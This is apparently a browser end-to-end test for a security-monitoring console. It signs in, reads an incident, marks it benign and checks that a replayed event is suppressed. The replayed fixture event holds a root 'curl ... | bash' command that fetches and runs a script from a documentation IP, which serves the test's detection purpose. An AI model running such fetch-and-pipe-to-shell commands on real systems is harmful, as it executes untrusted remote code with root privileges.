#!/usr/bin/env python3
"""The console in a real browser (run by scripts/test-console).

A WebDriver client of a few calls (the W3C protocol over HTTP, standard
library only) drives headless Chromium through the console of the running
stack, on the org scripts/demo last played. Fails with the step that did
not hold.
"""

import argparse
import base64
import json
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

ELEMENT = "element-6066-11e4-a52e-4f735466cecf"
# What a page may take at the server over the demo's data, in the browser's
# own measure (navigation start to the end of the response).
PAGE_BUDGET_MS = 300


class Failed(Exception):
    pass


def check(ok, what):
    if not ok:
        raise Failed(what)


class Browser:
    def __init__(self, webdriver):
        self.base = webdriver.rstrip("/")
        caps = {
            "browserName": "chrome",
            # The stack's certificate is signed by its own local CA.
            "acceptInsecureCerts": True,
            "goog:chromeOptions": {
                "binary": "/usr/bin/chromium",
                "args": ["--headless=new", "--no-sandbox", "--disable-gpu",
                         "--disable-dev-shm-usage", "--window-size=1366,900"],
            },
        }
        r = self.call("POST", "/session", {"capabilities": {"alwaysMatch": caps}})
        self.session = r["sessionId"]

    def call(self, method, path, body=None):
        data = None if body is None else json.dumps(body).encode()
        req = urllib.request.Request(self.base + path, data=data, method=method,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=60) as r:
                return json.load(r)["value"]
        except urllib.error.HTTPError as e:
            raise Failed(f"webdriver {method} {path}: {e.read().decode(errors='replace')[:500]}")

    def s(self, method, path, body=None):
        return self.call(method, f"/session/{self.session}{path}", body)

    def go(self, url):
        self.s("POST", "/url", {"url": url})

    def url(self):
        return self.s("GET", "/url")

    def find_all(self, css):
        return [e[ELEMENT] for e in self.s("POST", "/elements", {"using": "css selector", "value": css})]

    def find(self, css, wait=10.0):
        deadline = time.time() + wait
        while True:
            found = self.find_all(css)
            if found:
                return found[0]
            if time.time() > deadline:
                raise Failed(f"no element {css!r} on {self.url()}")
            time.sleep(0.2)

    def click(self, el):
        self.s("POST", f"/element/{el}/click", {})

    def type(self, el, text):
        self.s("POST", f"/element/{el}/value", {"text": text})

    def text(self, el):
        return self.s("GET", f"/element/{el}/text")

    def js(self, script, *args):
        return self.s("POST", "/execute/sync", {"script": script, "args": list(args)})

    def shot(self, path):
        Path(path).write_bytes(base64.b64decode(self.s("GET", "/screenshot")))

    def server_ms(self):
        """The page's response time as the browser measured it."""
        return self.js("const n = performance.getEntriesByType('navigation')[0];"
                       "return n.responseEnd - n.requestStart;")

    def quit(self):
        try:
            self.s("DELETE", "")
        except Exception:  # noqa: BLE001 - best effort at the end
            pass


def ch(url, sql):
    with urllib.request.urlopen(urllib.request.Request(url, data=sql.encode()), timeout=30) as r:
        return r.read().decode().strip()


def main():
    ap = argparse.ArgumentParser()
    for a in ("webdriver", "console", "token-file", "clickhouse", "collector", "brokers", "screenshots"):
        ap.add_argument("--" + a, required=True)
    a = ap.parse_args()
    shots = Path(a.screenshots)
    org = ch(a.clickhouse, "SELECT org FROM outlier.incidents FINAL WHERE org LIKE 'demo-%' "
                           "ORDER BY updated_ns DESC LIMIT 1")
    check(org, "no demo org with incidents: run scripts/demo first")
    run = org  # scripts/demo names its org after its run
    scenario = f"{run}-curl-pipe-bash-as-root"
    incident = ch(a.clickhouse, f"SELECT incident_id FROM outlier.incidents FINAL WHERE org = '{org}' "
                                f"AND has(event_ids, '{scenario}') LIMIT 1")
    check(incident, f"no incident holds {scenario}")
    base = a.console.rstrip("/")
    q = urllib.parse.quote
    b = Browser(a.webdriver)
    timings = {}
    try:
        # Not signed in: the sign-in page.
        b.go(f"{base}/o/{q(org)}")
        check(b.url().endswith("/login"), f"not sent to sign in: {b.url()}")
        b.type(b.find("#token"), "not a token")
        b.click(b.find("form.login button"))
        check("not known" in b.text(b.find("p.error")), "an unknown token was not refused")
        b.type(b.find("#token"), Path(a.token_file).read_text().strip())
        b.click(b.find("form.login button"))
        b.find("header form.account")

        # The overview.
        b.go(f"{base}/o/{q(org)}")
        b.find(".figures")
        timings["overview"] = b.server_ms()
        b.shot(shots / "overview.png")

        # Incidents: the seed scenario's, opened from the list.
        b.go(f"{base}/o/{q(org)}/incidents")
        timings["incidents"] = b.server_ms()
        b.shot(shots / "incidents.png")
        b.click(b.find(f'a[href="/o/{q(org)}/incidents/{q(incident)}"]'))
        b.find("dl.facts")
        timings["incident"] = b.server_ms()
        check("web-3" in b.text(b.find("dl.facts")), "the incident's host is not shown")
        b.shot(shots / "incident.png")

        # Its event: process tree (sudo above the root shell) and reasons.
        b.click(b.find(f'a[href="/o/{q(org)}/events/{q(scenario)}"]'))
        tree = b.text(b.find("ul.tree"))
        timings["event"] = b.server_ms()
        check("sudo" in tree and "bash" in tree, f"process tree without sudo and bash: {tree!r}")
        reasons = b.find_all("ul.bars li")
        check(len(reasons) >= 1, "no reasons shown")
        check("curl" in b.text(b.find("p.summary")), "the event's command line is not shown")
        b.shot(shots / "event.png")

        # Accessibility: every visible field has a label; the first Tab
        # reaches the skip link.
        unlabelled = b.js("return [...document.querySelectorAll('input:not([type=hidden]), select')]"
                          ".filter(e => e.labels.length === 0).map(e => e.name);")
        check(not unlabelled, f"fields without a label: {unlabelled}")
        b.s("POST", "/actions", {"actions": [{"type": "key", "id": "kb", "actions": [
            {"type": "keyDown", "value": "\ue004"}, {"type": "keyUp", "value": "\ue004"}]}]})
        focused = b.js("return document.activeElement.className;")
        check(focused == "skip", f"the first Tab focuses {focused!r}, not the skip link")

        # Benign feedback for the host, from the event page.
        b.click(b.find('input[name="label"][value="benign"]'))
        b.click(b.find('select[name="scope"] option[value="host"]'))
        b.type(b.find('input[name="reason"]'), "our provisioning runs this as root")
        b.click(b.find("form.feedback button"))
        notice = b.text(b.find("p.notice"))
        check("Suppression" in notice, f"no suppression made: {notice!r}")

        # The repeat of the scenario is suppressed.
        line = json.dumps({
            "org": org, "workload": "web", "host": "web-3", "kind": "exec", "pid": 6005, "ppid": 6004,
            "uid": 0, "gid": 0, "comm": "bash", "parent_comm": "sudo", "exe": "/usr/bin/bash",
            "argv": ["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"], "cwd": "/tmp"})
        suppressed = ""
        for n in range(1, 16):
            again = f"{run}-again-{n}"
            ev = json.loads(line)
            ev["event_id"] = again
            subprocess.run([a.collector, "--brokers", a.brokers, "replay", "--file", "-"],
                           input=json.dumps(ev) + "\n", text=True, check=True, capture_output=True)
            for _ in range(40):
                suppressed = ch(a.clickhouse, f"SELECT suppressed_by FROM outlier.security_events "
                                              f"WHERE org = '{org}' AND event_id = '{again}' LIMIT 1")
                if suppressed != "" or ch(a.clickhouse, f"SELECT count() FROM outlier.security_events "
                                                        f"WHERE org = '{org}' AND event_id = '{again}'") != "0":
                    break
                time.sleep(0.5)
            if suppressed:
                break
        check(suppressed, "the repeat of the scenario was not suppressed")

        # The suppression the feedback made, listed.
        b.go(f"{base}/o/{q(org)}/suppressions")
        check(suppressed in b.text(b.find("table.suppressions")), f"{suppressed} not listed")
        timings["suppressions"] = b.server_ms()
        b.shot(shots / "suppressions.png")

        # The baselines.
        b.go(f"{base}/o/{q(org)}/baselines")
        check("web" in b.text(b.find("table.baselines")), "no baseline of the web workload")
        timings["baselines"] = b.server_ms()
        b.shot(shots / "baselines.png")

        # Search in plain words.
        b.go(f"{base}/o/{q(org)}/search?q={q('reverse shell bash outbound connection')}")
        b.find("table.hits")
        timings["search"] = b.server_ms()
        b.shot(shots / "search.png")

        slow = {k: v for k, v in timings.items() if v > PAGE_BUDGET_MS}
        print("console pages (ms, server response as the browser measured it): "
              + ", ".join(f"{k} {v:.0f}" for k, v in timings.items()))
        check(not slow, f"pages over {PAGE_BUDGET_MS} ms: {slow}")
        print(f"console in Chromium: signed in, incident {incident} of {org} read (process tree, "
              f"{len(reasons)} reasons), benign feedback for web-3, repeat suppressed by {suppressed}; "
              f"screenshots in {shots}")
    except Failed as e:
        try:
            b.shot(shots / "failure.png")
        except Exception:  # noqa: BLE001
            pass
        print(f"test-console: FAILED: {e} (screenshot: {shots / 'failure.png'})", file=sys.stderr)
        sys.exit(1)
    finally:
        b.quit()


if __name__ == "__main__":
    main()
